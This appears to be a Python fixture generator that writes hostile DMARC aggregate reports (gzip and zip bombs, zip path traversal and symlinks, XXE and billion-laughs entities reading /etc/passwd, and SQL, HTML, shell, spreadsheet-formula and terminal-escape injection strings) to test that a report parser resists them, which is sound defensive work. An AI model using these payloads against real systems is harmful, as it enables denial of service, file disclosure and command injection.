#!/usr/bin/env python3
"""Attacks on the reader of reports, written into a folder:

    hostile.py FOLDER

What the program has to make of each stands in tests/data/hostile.tsv, by
hand; tests/integration/test_hostile.py compares.  Bombs are made here, not
kept.  The mails are in hostile_mail.py.
"""

import gzip
import io
import os
import pathlib
import random
import socket
import struct
import sys
import zipfile
import zlib
from xml.sax.saxutils import escape

import hostile_mail

KIB = 1 << 10
MIB = 1 << 20
DOMAIN = "klant.example"
BEGIN, END = 1767571200, 1767657599  # 2026-01-05

ESC = "\x1b[2J\x1b]0;gone\x07"
C1 = "\x9b2J\x9d0;gone\x9c\x85"
BIDI = "\u202eelpmaxe\u202c\u2066\u2069\u200f"
ZERO = "goo\u200bgle\u200d.\ufeffcom\u2060\u00ad"
LINES = "\u2028two\u2029three"

SQL = "'); DROP TABLE report; --"
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>"
MARKDOWN = "](javascript:alert(1)) | ```\n# owned\n@everyone"
FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
SHELL = "$(touch /tmp/owned); `id` | sh"
FORMAT = "%s%s%n%p%999999d"


def report(name, begin=BEGIN, end=END, domain=DOMAIN, org="stranger.example",
           email="dmarc@stranger.example", ident=None, address="192.0.2.66",
           counts=(7, 5), header_from=None, auth="stranger.example",
           selector="s1", declaration='<?xml version="1.0"?>\n', rows=None):
    """A report of 12 messages; what is given is text, not XML."""
    def row(ip, count, result):
        return (
            f"<record><row><source_ip>{escape(ip)}</source_ip>"
            f"<count>{escape(str(count))}</count><policy_evaluated>"
            f"<disposition>none</disposition><dkim>{result}</dkim>"
            "<spf>fail</spf></policy_evaluated></row><identifiers>"
            f"<header_from>{escape(header_from or domain)}</header_from>"
            "</identifiers><auth_results><dkim>"
            f"<domain>{escape(auth)}</domain>"
            f"<selector>{escape(selector)}</selector>"
            f"<result>{result}</result></dkim><spf><domain>{escape(auth)}"
            "</domain><result>fail</result></spf></auth_results></record>\n")
    if rows is None:
        rows = row(address, counts[0], "pass") + row(address, counts[1],
                                                     "fail")
    return (
        f"{declaration}<feedback>\n<report_metadata>"
        f"<org_name>{escape(org)}</org_name><email>{escape(email)}</email>"
        f"<report_id>{escape(ident or name)}</report_id>"
        f"<date_range><begin>{escape(str(begin))}</begin>"
        f"<end>{escape(str(end))}</end></date_range></report_metadata>\n"
        f"<policy_published><domain>{escape(domain)}</domain><p>none</p>"
        f"</policy_published>\n{rows}</feedback>\n")


def gz(data, level=9):
    return gzip.compress(data.encode() if isinstance(data, str) else data,
                         level, mtime=0)


def archive(*members, method=zipfile.ZIP_DEFLATED, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo("x", (2026, 1, 6, 0, 0, 0))
            info.filename = name  # as it is, NUL and all
            info.compress_type = method
            z.writestr(info, data)
        z.comment = comment
    return out.getvalue()


def wrapped(name, inner):
    """A report with ${inner} as an element that nobody reads."""
    return report(name).replace("</feedback>", f"{inner}</feedback>")


def gzips():
    whole = gz(report("gzip"))
    spaces = "<feedback>" + 64 * MIB * " " + "</feedback>"
    yield "gzip-bomb.gz", gz(spaces)
    yield "gzip-bomb-in-gzip.gz", gz(gz(spaces))
    yield "gzip-three-deep.gz", gz(gz(whole))
    yield "gzip-10000-members.gz", whole + 10000 * gz("")
    yield "gzip-members-each-a-bomb.gz", 8 * gz(8 * MIB * " ")
    yield "gzip-length-lies.gz", whole[:-4] + struct.pack("<I", 1)
    yield "gzip-checksum-lies.gz", whole[:-8] + bytes(4) + whole[-4:]
    yield "gzip-truncated.gz", whole[:len(whole) // 2]
    yield "gzip-header-only.gz", whole[:10]
    # Flags 8: a name follows, which never ends.
    yield "gzip-endless-name.gz", (whole[:3] + b"\x08" + whole[4:10] +
                                   8 * MIB * b"n")
    yield "gzip-long-extra.gz", (
        whole[:3] + b"\x04" + whole[4:10] + b"\xff\xff" + 65535 * b"e" +
        gz(report("gzip-long-extra"))[10:])
    yield "gzip-reserved-flags.gz", whole[:3] + b"\xe0" + whole[4:]
    yield "gzip-of-nothing.gz", gz("")
    # 130 MiB of comments that deflate makes 140 times smaller, no more.
    rng = random.Random(1)
    comments = "".join(f"<!--{rng.randbytes(230).hex()}{65000 * ' '}-->"
                       for _ in range(2085))
    yield "gzip-130-mib.gz", gz(f"<feedback>{comments}", 6)
    yield "gzip-17-mib-stored.gz", gz(
        "<feedback>" + 18 * (MIB // 16) * "<!-- a note -->\n", 0)


def central(name, method, crc, packed, size, offset):
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0,
                       crc, packed, size, len(name), 0, 0, 0, 0, 0,
                       offset) + name


def local(name, method, crc, packed, size):
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc,
                       packed, size, len(name), 0) + name


def overlapping(entries):
    """Entries that lie in one another: the data of each are the header of the
    next, as a stored block of deflate, and then the data of the next."""
    data = report("zip-overlapping").replace(
        "</feedback>", 900 * KIB * " " + "</feedback>").encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush()
    ends, names = [], []
    for i in range(entries):
        facts = (b"%05d.xml" % i, 8, zlib.crc32(data), len(body), len(data))
        head = local(*facts)
        names.append(facts)
        body = head + body
        ends.append(len(body))
        data = head + data
        body = struct.pack("<BHH", 0, len(head), len(head) ^ 0xffff) + body
    body = body[5:]
    directory = b"".join(central(*facts, len(body) - end)
                         for facts, end in zip(names, ends))
    return body + directory + struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(directory),
        len(body), 0)


def patched(data, *changes):
    """${data} with octets replaced after the first local header and after
    the first directory entry: (local offset, directory offset, octets)."""
    data = bytearray(data)
    directory = data.index(b"PK\x01\x02")
    for here, there, octets in changes:
        data[here:here + len(octets)] = octets
        there += directory
        data[there:there + len(octets)] = octets
    return bytes(data)


def link_in_zip():
    info = zipfile.ZipInfo("report.xml", (2026, 1, 6, 0, 0, 0))
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(info, "/etc/passwd")
    return out.getvalue()


def zips():
    good = archive(("a.xml", report("zip")))
    yield "zip-bomb.zip", archive(("a.xml", 64 * MIB * " "))
    yield "zip-overlapping.zip", overlapping(250)
    yield "zip-10000-entries.zip", archive(
        *((f"{i}", b"") for i in range(10000)), method=zipfile.ZIP_STORED)
    yield "zip-huge-size.zip", patched(
        good, (22, 24, b"\xff\xff\xff\x7f"))
    yield "zip-huge-packed.zip", patched(
        good, (18, 20, b"\xff\xff\xff\x7f"))
    yield "zip-nested.zip", archive(("a.zip", archive(("b.zip", good))))
    yield "zip-of-gzip-bomb.zip", archive(
        ("a.xml.gz", gz(64 * MIB * " ")), method=zipfile.ZIP_STORED)
    yield "zip-encrypted.zip", patched(good, (6, 8, b"\x01"))
    yield "zip-bzip2.zip", archive(
        ("a.xml", report("bzip2")), method=zipfile.ZIP_BZIP2)
    yield "zip-lzma.zip", archive(
        ("a.xml", report("lzma")), method=zipfile.ZIP_LZMA)
    yield "zip-truncated.zip", good[:-30]
    yield "zip-checksum-lies.zip", patched(good, (14, 16, bytes(4)))
    yield "zip-link.zip", link_in_zip()
    yield "zip-notes-only.zip", archive(("readme.txt", "no report"))
    yield "zip-paths.zip", archive(
        *((name, report(f"zip-path-{i}")) for i, name in enumerate((
            "../../../../../../tmp/owned.xml", "/tmp/owned.xml",
            "C:\\owned.xml", "..\\..\\owned.xml", "a\nb.xml", "a\0b.xml",
            f"{ESC}.xml", f"{BIDI}{C1}.xml", f"{SQL}.xml", ""))))
    yield "zip-long-name.zip", archive((60000 * "n", report("zip-long-name")))
    yield "zip-comment.zip", archive(("a.xml", report("zip-comment")),
                                     comment=65535 * b"\x9b")


def entities():
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{10 * f"&a{i - 1};"}">' for i in range(1, 10))

    def dtd(name, inner, use="&a9;"):
        text = report(name, org="USE").replace("USE", use)
        return text.replace("<feedback>", f"<!DOCTYPE feedback {inner}>"
                            "<feedback>", 1)
    yield "xml-billion-laughs.xml", dtd("laughs", f"[{laughs}]")
    yield "xml-quadratic.xml", dtd(
        "quadratic", f'[<!ENTITY a9 "{50000 * "a"}">]', 50000 * "&a9;")
    yield "xml-external-file.xml", dtd(
        "file", '[<!ENTITY a9 SYSTEM "file:///etc/passwd">]')
    yield "xml-external-http.xml", dtd(
        "http", '[<!ENTITY a9 SYSTEM "http://127.0.0.1:9/x">]')
    yield "xml-external-dtd.xml", dtd(
        "dtd", 'SYSTEM "http://127.0.0.1:9/x.dtd"', "")
    yield "xml-parameter-entity.xml", dtd(
        "parameter", '[<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]')
    yield "xml-doctype-late.xml", report("late").replace(
        "<feedback>", f"<!--{900 * KIB * 'c'}-->\n<!DOCTYPE feedback>"
        "<feedback>")
    yield "xml-doctype-inside.xml", wrapped("inside", "<!DOCTYPE x>")
    yield "xml-undeclared-entity.xml", report("undeclared").replace(
        ">stranger.example</org", ">&a9;</org")


def shapes():
    yield "xml-deep.xml", "<feedback>" + 100000 * "<a>"
    yield "xml-deep-inside.xml", wrapped(
        "deep", 100000 * "<a>" + 100000 * "</a>")
    yield "xml-long-text.xml", report("text", org=10 * MIB * "o")
    yield "xml-long-cdata.xml", report("cdata", org="USE").replace(
        "USE", f"<![CDATA[{10 * MIB * 'o'}]]>")
    yield "xml-long-unread-text.xml", wrapped(
        "xml-long-unread-text", f"<note>{10 * MIB * 'n'}</note>")
    yield "xml-long-name.xml", wrapped("name", f"<{2 * MIB * 'n'}/>")
    yield "xml-long-value.xml", wrapped("value", f'<n a="{2 * MIB * "v"}"/>')
    yield "xml-long-comment.xml", wrapped(
        "comment", f"<!--{30 * MIB * 'c'}-->")
    yield "xml-long-instruction.xml", wrapped("pi", f"<?x {2 * MIB * 'p'}?>")
    for name, form, n in (("1000000-attributes", "a{}=''", 1000000),
                          ("60000-attributes", "a{}=''", 60000),
                          ("30000-namespaces", "xmlns:a{0}='u:{0}'", 30000)):
        yield f"xml-{name}.xml", wrapped(
            f"xml-{name}", f"<n {' '.join(map(form.format, range(n)))}/>")
    yield "xml-row-size.xml", report("row", rows=(
        "<record><row><count>1</count></row><auth_results>" +
        100 * f"<dkim><domain>{4000 * 'd'}</domain></dkim>" +
        "</auth_results></record>"))
    yield "xml-500001-rows.xml", report(
        "rows", rows=500001 * "<record><row><count>1</count></row></record>")
    yield "xml-element-in-count.xml", report("mixed").replace(
        "<count>7", "<count>7<b>7</b>")
    yield "xml-cut.xml", report("cut")[:700]
    yield "xml-two-roots.xml", report("two") + report("roots")
    yield "xml-other-root.xml", '<svg onload="alert(1)"/>'
    yield "xml-html.xml", "<!-- x --><html><body>Log in</body></html>"
    yield "xml-escape.xml", report("escape", org=ESC)
    yield "xml-escape-reference.xml", report("escape", org="USE").replace(
        "USE", "&#27;[2J")
    yield "xml-version-1.1.xml", report("1.1", org="USE", declaration=(
        '<?xml version="1.1"?>')).replace("USE", "&#27;[2J")
    yield "xml-nul.xml", report("nul", org="a\0b")


def numbers():
    for name, count in (
            ("negative", "-7"), ("overflow", "18446744073709551623"),
            ("two-to-the-63", "9223372036854775807"), ("hex", "0x7"),
            ("float", "7.5"), ("exponent", "7e3"), ("plus", "+7"),
            ("arabic", "\u0667"), ("nan", "NaN"), ("empty", ""),
            ("digits", 4000 * "9"), ("billion-and-one", "1000000001")):
        yield f"count-{name}.xml", report(name, counts=(count, count))
    # The largest there are: their sums stay far from 64 bits.
    yield "count-largest.xml", report(
        "count-largest", address="192.0.2.67", rows=1000 * (
            "<record><row><source_ip>192.0.2.67</source_ip>"
            "<count>1000000000</count></row></record>"))
    for name, begin, end in (
            ("reversed", END, BEGIN), ("empty", BEGIN, BEGIN),
            ("1970", 0, 86400), ("9999", 253402214400, 253402300799),
            ("9-days", BEGIN, BEGIN + 9 * 86400),
            ("future", 1830297600, 1830383999),
            ("ends-tomorrow", 1770163200, 1770249600),
            ("word", "today", "tomorrow"), ("negative", -86400, 0),
            ("overflow", "18446744073709551616", "18446744073709638015"),
            ("13-digits", BEGIN * 1000, END * 1000),
            ("iso", "2026-01-05T00:00:00Z", "2026-01-05T23:59:59Z"),
            ("exponent", "1.7e9", "1.8e9")):
        yield f"date-{name}.xml", report(f"date-{name}", begin, end)


def texts():
    for word, evil in (("c1", C1), ("bidi", BIDI), ("zero-width", ZERO),
                       ("lines", LINES), ("html", HTML)):
        for place in ("org", "email", "ident", "auth", "selector"):
            name = f"text-{word}-in-{place}"
            yield f"{name}.xml", report(name, **{
                place: evil + name if place == "ident" else evil})
        yield f"text-{word}-in-domain.xml", report(word, domain=evil)
        name = f"text-{word}-in-address"
        yield f"{name}.xml", report(name, address=evil)
        name = f"text-{word}-in-header-from"
        yield f"{name}.xml", report(name, header_from=evil)
    for word, evil in (("sql", SQL), ("markdown", MARKDOWN),
                       ("formula", FORMULA), ("shell", SHELL),
                       ("format", FORMAT), ("path", "../../../etc/passwd")):
        name = f"text-{word}"
        yield f"{name}.xml", report(
            name, org=evil, email=evil, ident=evil, address=evil, auth=evil,
            selector=evil, header_from=evil)
        yield f"{name}-in-domain.xml", report(word, domain=evil)
    for word, address in (
            ("999", "999.1.1.1"), ("octal", "0300.0.02.010"),
            ("cidr", "192.0.2.0/24"), ("zone", "fe80::1%eth0"),
            ("v6", "2001:db8::gggg"), ("long", 4000 * "1"),
            ("spaces", "192.0.2.1 192.0.2.2")):
        yield f"address-{word}.xml", report(f"address-{word}",
                                            address=address)


def encodings():
    def said(name, encoding):
        return report(name, declaration=(
            f'<?xml version="1.0" encoding="{encoding}"?>\n'))
    for name, encoding, octets, mark in (
            ("utf-16-le", "UTF-16", "utf-16-le", b"\xff\xfe"),
            ("utf-16-be", "UTF-16", "utf-16-be", b"\xfe\xff"),
            ("utf-16-le-bare", "UTF-16", "utf-16-le", b""),
            ("utf-16-be-bare", "UTF-16", "utf-16-be", b""),
            ("utf-16-called-utf-8", "UTF-8", "utf-16-le", b"\xff\xfe"),
            ("utf-8-called-utf-16", "UTF-16", "utf-8", b""),
            ("utf-32-le", "UTF-32", "utf-32-le", b"\xff\xfe\0\0"),
            ("utf-32-be", "UTF-32", "utf-32-be", b"\0\0\xfe\xff"),
            ("utf-7", "UTF-7", "utf-7", b""),
            ("ebcdic", "IBM037", "cp037", b""),
            ("long-name", 4000 * "x", "utf-8", b"")):
        name = f"encoding-{name}"
        yield f"{name}.xml", mark + said(name, encoding).encode(octets)
    plain = report("octets", org="ORG").encode()
    for name, octets in (("overlong", b"\xc0\xbcb\xc0\xbe"),
                         ("overlong-nul", b"a\xc0\x80"),
                         ("surrogate", b"\xed\xa0\x80"),
                         ("beyond", b"\xf4\x90\x80\x80"),
                         ("lone", b"\x80"), ("cut-short", b"\xe2\x82")):
        yield f"encoding-{name}.xml", plain.replace(b"ORG", octets)


def domains():
    long = ".".join(4 * [63 * "a"])
    for name, domain in (
            ("foreign", "elsewhere.example"),
            ("looks-below", "klant.example.evil.example"),
            ("looks-like", "eenklant.example"),
            ("below", "mail.klant.example"),
            ("capitals-and-dot", "KLANT.Example."),
            ("two-dots", "klant.example.."), ("empty-label", "a..example"),
            ("256-octets", long), ("label-64", f"{64 * 'a'}.example"),
            ("dot", "."), ("star", "*.klant.example"),
            ("unicode", "kl\u00e4nt.example"),
            ("homoglyph", "kl\u0430nt.example"),
            ("full-stop", "klant\u3002example"),
            ("punycode", "xn--\u00e4.example"),
            ("at", "klant.example@evil.example"),
            ("port", "klant.example:80"), ("url", "http://klant.example/")):
        yield f"domain-{name}.xml", report(f"domain-{name}", domain=domain)
    # Nobody names the reporter, and nothing tells two copies apart.
    yield "nobody.xml", report("nobody", org=" ", email="nobody")
    yield "no-id.xml", report(" <> ", ident=" ")


def others():
    yield "empty.xml", b""
    yield "spaces.xml", 20 * MIB * b" "
    yield "spaces-100-mib.xml", 100 * MIB * b" "
    yield "nuls.xml", 4 * MIB * b"\0"
    yield "picture.xml", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(1000)
    yield "program.xml", b"\x7fELF\x02\x01\x01" + bytes(1000)
    yield "document.xml", b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>"
    yield "json.xml", b'{"feedback": {"org_name": "x"}}'
    for name in (f"name-{ESC}.xml", f"name-{BIDI}{C1}.xml", "name-\n.xml",
                 "name-$(touch owned).xml"):
        yield name, b"\x89PNG"
    yield b"name-\xff\xc0\xaf.xml", b"\x89PNG"


def special(folder):
    """What is no file."""
    def listen(path):
        # The path of a socket is short; the folder's may not be.
        here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        try:
            os.chdir(path.parent)
            with socket.socket(socket.AF_UNIX) as s:
                s.bind(path.name)
        finally:
            os.fchdir(here)
            os.close(here)

    def deep(path):
        (path / "/".join(20 * "d")).mkdir(parents=True)

    for name, maker in (
            ("fifo.xml", os.mkfifo), ("socket.xml", listen),
            ("folder.xml", os.mkdir), ("folders-20-deep.xml", deep),
            ("link-to-device.xml", lambda p: p.symlink_to("/dev/zero")),
            ("link-to-nothing.xml", lambda p: p.symlink_to("gone")),
            ("link-to-itself.xml", lambda p: p.symlink_to(p.name)),
            # Opens like a file and cannot be read, not even by root.
            ("unreadable.xml", lambda p: p.symlink_to("/proc/self/mem"))):
        maker(folder / name)


def mails():
    return hostile_mail.mails(report, ESC, BIDI + C1)


def make(folder):
    """Write everything into ${folder}."""
    special(folder)
    for part in (gzips, zips, entities, shapes, numbers, texts, encodings,
                 domains, others, mails):
        for name, data in part():
            with open(os.path.join(os.fsencode(folder), os.fsencode(name)),
                      "xb") as f:
                f.write(data.encode() if isinstance(data, str) else data)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: hostile.py FOLDER")
    make(pathlib.Path(sys.argv[1]))
